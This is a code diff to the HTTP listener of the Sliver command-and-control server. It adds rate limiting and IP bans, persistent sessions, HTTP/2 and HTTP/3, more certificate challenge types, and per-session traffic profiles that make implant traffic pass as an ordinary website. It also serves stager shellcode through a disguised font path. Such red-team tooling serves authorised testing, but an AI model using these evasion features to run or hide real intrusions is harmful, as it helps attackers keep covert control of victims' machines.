@@ -38,14 +38,12 @@ import (
 	"net/url"
 	"path/filepath"
 	"strconv"
-	"strings"
 	"sync"
 	"time"
 	"unicode"
 
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
 	"github.com/bishopfox/sliver/server/certs"
-	"github.com/bishopfox/sliver/server/configs"
 	"github.com/bishopfox/sliver/server/core"
 	"github.com/bishopfox/sliver/server/cryptography"
 	sliverHandlers "github.com/bishopfox/sliver/server/handlers"
@@ -54,6 +52,7 @@ import (
 	"github.com/bishopfox/sliver/util/encoders"
 
 	"github.com/gorilla/mux"
+	"github.com/lucas-clemente/quic-go/http3"
 	"google.golang.org/protobuf/proto"
 )
 
@@ -77,57 +76,6 @@ func init() {
 	insecureRand.Seed(time.Now().UnixNano())
 }
 
-// HTTPSession - Holds data related to a sliver c2 session
-type HTTPSession struct {
-	ID      string
-	Session *core.Session
-	Key     cryptography.AESKey
-	Started time.Time
-	replay  map[string]bool // Sessions are mutex'd
-}
-
-// Keeps a hash of each msg in a session to detect replay'd messages
-func (s *HTTPSession) isReplayAttack(ciphertext []byte) bool {
-	if len(ciphertext) < 1 {
-		return false
-	}
-	sha := sha256.New()
-	sha.Write(ciphertext)
-	digest := base64.RawStdEncoding.EncodeToString(sha.Sum(nil))
-	if _, ok := s.replay[digest]; ok {
-		return true
-	}
-	s.replay[digest] = true
-	return false
-}
-
-// HTTPSessions - All currently open HTTP sessions
-type HTTPSessions struct {
-	active *map[string]*HTTPSession
-	mutex  *sync.RWMutex
-}
-
-// Add - Add an HTTP session
-func (s *HTTPSessions) Add(session *HTTPSession) {
-	s.mutex.Lock()
-	defer s.mutex.Unlock()
-	(*s.active)[session.ID] = session
-}
-
-// Get - Get an HTTP session
-func (s *HTTPSessions) Get(sessionID string) *HTTPSession {
-	s.mutex.RLock()
-	defer s.mutex.RUnlock()
-	return (*s.active)[sessionID]
-}
-
-// Remove - Remove an HTTP session
-func (s *HTTPSessions) Remove(sessionID string) {
-	s.mutex.Lock()
-	defer s.mutex.Unlock()
-	delete((*s.active), sessionID)
-}
-
 // HTTPHandler - Path mapped to a handler function
 type HTTPHandler func(resp http.ResponseWriter, req *http.Request)
 
@@ -147,91 +95,127 @@ type HTTPServerConfig struct {
 	EnforceOTP           bool
 	LongPollTimeoutMilli int
 	LongPollJitterMilli  int
+
+	// RateLimit/RateBurst - Token bucket rate limit (requests/sec, burst) enforced
+	// per (remote IP, route pattern). Zero uses the package defaults.
+	RateLimit float64
+	RateBurst int
+	// TarpitAfter - Consecutive rejections before a rate-limited response carries a
+	// second, additional jittered delay on top of the one every rejection already gets
+	TarpitAfter int
+	// BanAfter - Consecutive rejections before the remote IP is temporarily blocklisted
+	BanAfter int
+
+	// PersistSessions - Back HTTPSessions with a BoltDB store under the server data
+	// dir instead of the in-memory-only map, so a listener restart/crash doesn't
+	// force every implant to re-key via startSessionHandler.
+	PersistSessions bool
+	// SessionTTL - How long an HTTP session may sit idle before the background
+	// sweep expires it. Zero uses DefaultSessionTTL.
+	SessionTTL time.Duration
+
+	// EnableHTTP2 - Negotiate h2 over ALPN instead of disabling HTTP/2 outright
+	EnableHTTP2 bool
+	// EnableHTTP3 - Additionally bind a UDP listener on Addr and serve HTTP/3 (QUIC)
+	EnableHTTP3 bool
+
+	// ACMEChallengeType - http-01, dns-01, or tls-alpn-01. Defaults to http-01.
+	ACMEChallengeType string
+	// DNSProvider/DNSProviderCredentials - Only consulted when ACMEChallengeType
+	// is dns-01: selects the provider ("route53", "cloudflare", "digitalocean",
+	// "rfc2136") and its credential block.
+	DNSProvider            string
+	DNSProviderCredentials map[string]string
 }
 
 // SliverHTTPC2 - Holds refs to all the C2 objects
 type SliverHTTPC2 struct {
 	HTTPServer   *http.Server
 	Conf         *HTTPServerConfig
-	HTTPSessions *HTTPSessions
+	HTTPSessions SessionStore
 	SliverStage  []byte // Sliver shellcode to serve during staging process
 	Cleanup      func()
 
-	server    string
-	poweredBy string
-}
-
-func (s *SliverHTTPC2) getServerHeader() string {
-	if s.server == "" {
-		switch insecureRand.Intn(1) {
-		case 0:
-			s.server = fmt.Sprintf("Apache/2.4.%d (Unix)", insecureRand.Intn(48))
-		default:
-			s.server = fmt.Sprintf("nginx/1.%d.%d (Ubuntu)", insecureRand.Intn(21), insecureRand.Intn(8))
-		}
-	}
-	return s.server
-}
-
-func (s *SliverHTTPC2) getCookieName() string {
-	cookies := configs.GetHTTPC2Config().ServerConfig.Cookies
-	index := insecureRand.Intn(len(cookies))
-	return cookies[index]
-}
-
-func (s *SliverHTTPC2) getPoweredByHeader() string {
-	if s.poweredBy == "" {
-		switch insecureRand.Intn(1) {
-		case 0:
-			s.poweredBy = fmt.Sprintf("PHP/8.0.%d", insecureRand.Intn(10))
-		default:
-			s.poweredBy = fmt.Sprintf("PHP/7.%d.%d", insecureRand.Intn(4), insecureRand.Intn(20))
-		}
-	}
-	return s.poweredBy
+	rateLimiter      *rateLimiter
+	stopSessionSweep chan struct{}
+	http3Server      *http3.Server
 }
 
 // StartHTTPSListener - Start an HTTP(S) listener, this can be used to start both
-//						HTTP/HTTPS depending on the caller's conf
+//
+//	HTTP/HTTPS depending on the caller's conf
+//
 // TODO: Better error handling, configurable ACME host/port
 func StartHTTPSListener(conf *HTTPServerConfig) (*SliverHTTPC2, error) {
 	StartPivotListener()
 	httpLog.Infof("Starting https listener on '%s'", conf.Addr)
+	sessionStore, err := newSessionStore(conf)
+	if err != nil {
+		httpLog.Errorf("Failed to initialize http session store %s", err)
+		return nil, err
+	}
 	server := &SliverHTTPC2{
-		Conf: conf,
-		HTTPSessions: &HTTPSessions{
-			active: &map[string]*HTTPSession{},
-			mutex:  &sync.RWMutex{},
-		},
+		Conf:             conf,
+		HTTPSessions:     sessionStore,
+		stopSessionSweep: make(chan struct{}),
+	}
+	rehydrateSessions(server)
+	go expireIdleSessions(server.HTTPSessions, conf.SessionTTL, server.stopSessionSweep)
+	if boltStore, ok := sessionStore.(*boltSessionStore); ok {
+		go flushDirtySessions(boltStore, server.stopSessionSweep)
 	}
+	server.rateLimiter = newRateLimiter(conf)
 	server.HTTPServer = &http.Server{
 		Addr:         conf.Addr,
 		Handler:      server.router(),
 		WriteTimeout: DefaultHTTPTimeout,
 		ReadTimeout:  DefaultHTTPTimeout,
 		IdleTimeout:  DefaultHTTPTimeout,
-		TLSNextProto: make(map[string]func(*http.Server, *tls.Conn, http.Handler), 0),
+	}
+	if !conf.EnableHTTP2 {
+		// Explicitly disables HTTP/2 negotiation; h2 is opt-in via EnableHTTP2
+		server.HTTPServer.TLSNextProto = make(map[string]func(*http.Server, *tls.Conn, http.Handler), 0)
 	}
 	if conf.ACME {
 		conf.Domain = filepath.Base(conf.Domain) // I don't think we need this, but we do it anyways
-		httpLog.Infof("Attempting to fetch let's encrypt certificate for '%s' ...", conf.Domain)
-		acmeManager := certs.GetACMEManager(conf.Domain)
-		acmeHTTPServer := &http.Server{Addr: ":80", Handler: acmeManager.HTTPHandler(nil)}
-		go acmeHTTPServer.ListenAndServe()
+		challengeType := certs.ACMEChallengeType(conf.ACMEChallengeType)
+		httpLog.Infof("Attempting to fetch let's encrypt certificate for '%s' (%s) ...", conf.Domain, challengeType)
+		acmeManager, err := certs.GetACMEManager(conf.Domain, challengeType, certs.DNSProviderConfig{
+			Provider:    conf.DNSProvider,
+			Credentials: conf.DNSProviderCredentials,
+		})
+		if err != nil {
+			httpLog.Errorf("Failed to initialize ACME manager: %s", err)
+			return nil, err
+		}
 		server.HTTPServer.TLSConfig = &tls.Config{
 			GetCertificate: acmeManager.GetCertificate,
 		}
 		server.Cleanup = func() {
-			ctx, cancelHTTP := context.WithTimeout(context.Background(), 5*time.Second)
-			defer cancelHTTP()
-			if err := acmeHTTPServer.Shutdown(ctx); err != nil {
-				httpLog.Warnf("Failed to shutdown http acme server")
-			}
-			ctx, cancelHTTPS := context.WithTimeout(context.Background(), 5*time.Second)
-			defer cancelHTTPS()
+			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+			defer cancel()
 			server.HTTPServer.Shutdown(ctx)
-			if err := acmeHTTPServer.Shutdown(ctx); err != nil {
-				httpLog.Warn("Failed to shutdown https server")
+		}
+		// http-01 needs a plaintext responder on :80; dns-01 and tls-alpn-01
+		// prove ownership without ever binding an extra port.
+		if challengeType == certs.ACMEHTTP01 || challengeType == "" {
+			acmeHTTPServer := &http.Server{Addr: ":80", Handler: acmeManager.HTTPHandler(nil)}
+			go acmeHTTPServer.ListenAndServe()
+			httpsCleanup := server.Cleanup
+			server.Cleanup = func() {
+				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+				defer cancel()
+				if err := acmeHTTPServer.Shutdown(ctx); err != nil {
+					httpLog.Warnf("Failed to shutdown http acme server")
+				}
+				httpsCleanup()
+			}
+		}
+		if challengeType == certs.ACMETLSALPN01 {
+			// autocert only answers tls-alpn-01 when the handshake can negotiate acme-tls/1
+			server.HTTPServer.TLSConfig.NextProtos = []string{"http/1.1", "acme-tls/1"}
+			if conf.EnableHTTP2 {
+				server.HTTPServer.TLSConfig.NextProtos = []string{"h2", "http/1.1", "acme-tls/1"}
 			}
 		}
 	} else {
@@ -245,7 +229,32 @@ func StartHTTPSListener(conf *HTTPServerConfig) (*SliverHTTPC2, error) {
 			}
 		}
 	}
-	_, _, err := certs.C2ServerGetRSACertificate(conf.Domain)
+	if conf.EnableHTTP2 && server.HTTPServer.TLSConfig != nil {
+		if err := configureHTTP2(server.HTTPServer); err != nil {
+			httpLog.Warnf("Failed to configure HTTP/2: %s", err)
+		}
+	}
+	if conf.EnableHTTP3 && server.HTTPServer.TLSConfig != nil {
+		http3Server, err := startHTTP3Listener(conf, server.HTTPServer.TLSConfig, server.HTTPServer.Handler)
+		if err != nil {
+			httpLog.Warnf("Failed to start HTTP/3 listener: %s", err)
+		} else {
+			server.http3Server = http3Server
+		}
+	}
+
+	httpServerCleanup := server.Cleanup
+	server.Cleanup = func() {
+		close(server.stopSessionSweep)
+		if err := server.HTTPSessions.Close(); err != nil {
+			httpLog.Warnf("Failed to close http session store %s", err)
+		}
+		if server.http3Server != nil {
+			server.http3Server.Close()
+		}
+		httpServerCleanup()
+	}
+	_, _, err = certs.C2ServerGetRSACertificate(conf.Domain)
 	if err == certs.ErrCertDoesNotExist {
 		httpLog.Infof("Generating C2 server certificate ...")
 		_, _, err := certs.C2ServerGenerateRSACertificate(conf.Domain)
@@ -275,10 +284,16 @@ func getHTTPTLSConfig(conf *HTTPServerConfig) *tls.Config {
 		httpLog.Errorf("Failed to parse tls cert/key pair %s", err)
 		return nil
 	}
-	return &tls.Config{
+	tlsConfig := &tls.Config{
 		Certificates: []tls.Certificate{cert},
 		MinVersion:   tls.VersionTLS12,
 	}
+	if conf.EnableHTTP2 {
+		// Advertise h2 via ALPN; http2.ConfigureServer also does this, but we
+		// need it here too since getHTTPTLSConfig runs before that call.
+		tlsConfig.NextProtos = []string{"h2", "http/1.1"}
+	}
+	return tlsConfig
 }
 
 func (s *SliverHTTPC2) router() *mux.Router {
@@ -292,29 +307,37 @@ func (s *SliverHTTPC2) router() *mux.Router {
 	// .png = stop
 	// .woff = sliver shellcode
 
-	router.HandleFunc("/{rpath:.*\\.txt$}", s.rsaKeyHandler).MatcherFunc(filterNonce).Methods(http.MethodGet)
-	router.HandleFunc("/{rpath:.*\\.phtml$}", s.startSessionHandler).MatcherFunc(filterNonce).Methods(http.MethodGet, http.MethodPost)
-	router.HandleFunc("/{rpath:.*\\.php$}", s.sessionHandler).MatcherFunc(filterNonce).Methods(http.MethodGet, http.MethodPost)
-	router.HandleFunc("/{rpath:.*\\.js$}", s.pollHandler).MatcherFunc(filterNonce).Methods(http.MethodGet)
-	router.HandleFunc("/{rpath:.*\\.png$}", s.stopHandler).MatcherFunc(filterNonce).Methods(http.MethodGet)
+	router.HandleFunc("/{rpath:.*\\.txt$}", s.rsaKeyHandler).MatcherFunc(s.filterBlocklist).MatcherFunc(filterNonce).Methods(http.MethodGet)
+	router.HandleFunc("/{rpath:.*\\.phtml$}", s.startSessionHandler).MatcherFunc(s.filterBlocklist).MatcherFunc(filterNonce).Methods(http.MethodGet, http.MethodPost)
+	router.HandleFunc("/{rpath:.*\\.php$}", s.sessionHandler).MatcherFunc(s.filterBlocklist).MatcherFunc(filterNonce).Methods(http.MethodGet, http.MethodPost)
+	router.HandleFunc("/{rpath:.*\\.js$}", s.pollHandler).MatcherFunc(s.filterBlocklist).MatcherFunc(filterNonce).Methods(http.MethodGet)
+	router.HandleFunc("/{rpath:.*\\.png$}", s.stopHandler).MatcherFunc(s.filterBlocklist).MatcherFunc(filterNonce).Methods(http.MethodGet)
 
 	// Can't force the user agent on the stager payload
 	// Request from msf stager payload will look like:
 	// GET /fonts/Inter-Medium.woff/B64_ENCODED_PAYLOAD_UUID
 	router.HandleFunc("/{rpath:.*\\.woff[/]{0,1}.*$}", s.stagerHander).Methods(http.MethodGet)
 
-	// Request does not match the C2 profile so we pass it to the static content or 404 handler
+	// Request does not match the C2 profile so we pass it to the static content or 404 handler.
+	// paddingMiddleware is only ever wrapped around these two, never the procedural C2 handlers
+	// above: those bodies are encoder.Encode(...)/GCM ciphertext with no length framing, so
+	// appending or re-wrapping padding bytes would leave the implant with no way to recover them.
 	if s.Conf.Website != "" {
 		httpLog.Infof("Serving static content from website %v", s.Conf.Website)
-		router.HandleFunc("/{rpath:.*}", s.websiteContentHandler).Methods(http.MethodGet)
+		router.Handle("/{rpath:.*}", s.paddingMiddleware(http.HandlerFunc(s.websiteContentHandler))).Methods(http.MethodGet)
 	} else {
 		// 404 Handler - Just 404 on every path that doesn't match another handler
 		httpLog.Infof("No website content, using wildcard 404 handler")
-		router.HandleFunc("/{rpath:.*}", default404Handler).Methods(http.MethodGet, http.MethodPost)
+		router.Handle("/{rpath:.*}", s.paddingMiddleware(http.HandlerFunc(default404Handler))).Methods(http.MethodGet, http.MethodPost)
 	}
 
+	// DefaultRespHeaders must wrap rateLimitMiddleware, not the other way around:
+	// it sets headers on resp unconditionally before calling next, so a rejection
+	// short-circuited by rateLimitMiddleware still carries every header a genuine
+	// default404Handler response would.
 	router.Use(loggingMiddleware)
 	router.Use(s.DefaultRespHeaders)
+	router.Use(s.rateLimitMiddleware)
 
 	return router
 }
@@ -388,27 +411,27 @@ func loggingMiddleware(next http.Handler) http.Handler {
 	})
 }
 
-// DefaultRespHeaders - Configures default response headers
+// DefaultRespHeaders - Renders the TrafficProfile chosen for this request's
+// session (see trafficProfileFor) so a given implant's responses look like one
+// coherent origin across every poll, instead of randomizing per-response.
 func (s *SliverHTTPC2) DefaultRespHeaders(next http.Handler) http.Handler {
 	return http.HandlerFunc(func(resp http.ResponseWriter, req *http.Request) {
-		resp.Header().Set("Server", s.getServerHeader())
-		resp.Header().Set("X-Powered-By", s.getPoweredByHeader())
-		resp.Header().Set("Cache-Control", "no-store, no-cache, must-revalidate")
-
-		switch uri := req.URL.Path; {
-		case strings.HasSuffix(uri, ".txt"):
-			resp.Header().Set("Content-type", "text/plain; charset=utf-8")
-		case strings.HasSuffix(uri, ".css"):
-			resp.Header().Set("Content-type", "text/css; charset=utf-8")
-		case strings.HasSuffix(uri, ".php"):
-			resp.Header().Set("Content-type", "text/html; charset=utf-8")
-		case strings.HasSuffix(uri, ".js"):
-			resp.Header().Set("Content-type", "text/javascript; charset=utf-8")
-		case strings.HasSuffix(uri, ".png"):
-			resp.Header().Set("Content-type", "image/png")
-		default:
-			resp.Header().Set("Content-type", "application/octet-stream")
+		profile := s.trafficProfileFor(req)
+		for _, header := range profile.Headers {
+			if header.Value == "" {
+				continue
+			}
+			resp.Header().Set(header.Name, header.Value)
 		}
+		if s.Conf.EnableHTTP3 {
+			resp.Header().Set("Alt-Svc", altSvcHeader(s.Conf))
+		}
+
+		contentType, ok := profile.ContentTypes[filepath.Ext(req.URL.Path)]
+		if !ok {
+			contentType = "application/octet-stream"
+		}
+		resp.Header().Set("Content-type", contentType)
 
 		next.ServeHTTP(resp, req)
 	})
@@ -541,12 +564,14 @@ func (s *SliverHTTPC2) startSessionHandler(resp http.ResponseWriter, req *http.R
 		resp.WriteHeader(http.StatusNotFound)
 		return
 	}
+	cookie := s.trafficProfileForSeed(httpSession.ID).Cookie
 	http.SetCookie(resp, &http.Cookie{
 		Domain:   s.Conf.Domain,
-		Name:     s.getCookieName(),
+		Name:     cookie.Name,
 		Value:    httpSession.ID,
-		Secure:   false,
-		HttpOnly: true,
+		Secure:   cookie.Secure,
+		HttpOnly: cookie.HttpOnly,
+		SameSite: sameSiteFromString(cookie.SameSite),
 	})
 	resp.Write(encoder.Encode(ciphertext))
 }
@@ -631,7 +656,7 @@ func (s *SliverHTTPC2) readReqBody(httpSession *HTTPSession, resp http.ResponseW
 		return nil, ErrDecodeFailed
 	}
 
-	if httpSession.isReplayAttack(data) {
+	if digest := digestCiphertext(data); digest != "" && s.HTTPSessions.RecordReplay(httpSession.ID, digest) {
 		httpLog.Warn("Replay attack detected")
 		resp.WriteHeader(http.StatusNotFound)
 		return nil, ErrReplayAttack
@@ -691,14 +716,6 @@ func (s *SliverHTTPC2) getHTTPSession(req *http.Request) *HTTPSession {
 	return nil // No valid cookie names
 }
 
-func newHTTPSession() *HTTPSession {
-	return &HTTPSession{
-		ID:      newHTTPSessionID(),
-		Started: time.Now(),
-		replay:  map[string]bool{},
-	}
-}
-
 // newHTTPSessionID - Get a 128bit session ID
 func newHTTPSessionID() string {
 	buf := make([]byte, 16)
@@ -723,4 +740,4 @@ func getRemoteAddr(req *http.Request) string {
 		return req.RemoteAddr
 	}
 	return fmt.Sprintf("tcp(%s)->%s", req.RemoteAddr, ip.String())
-}
\ No newline at end of file
+}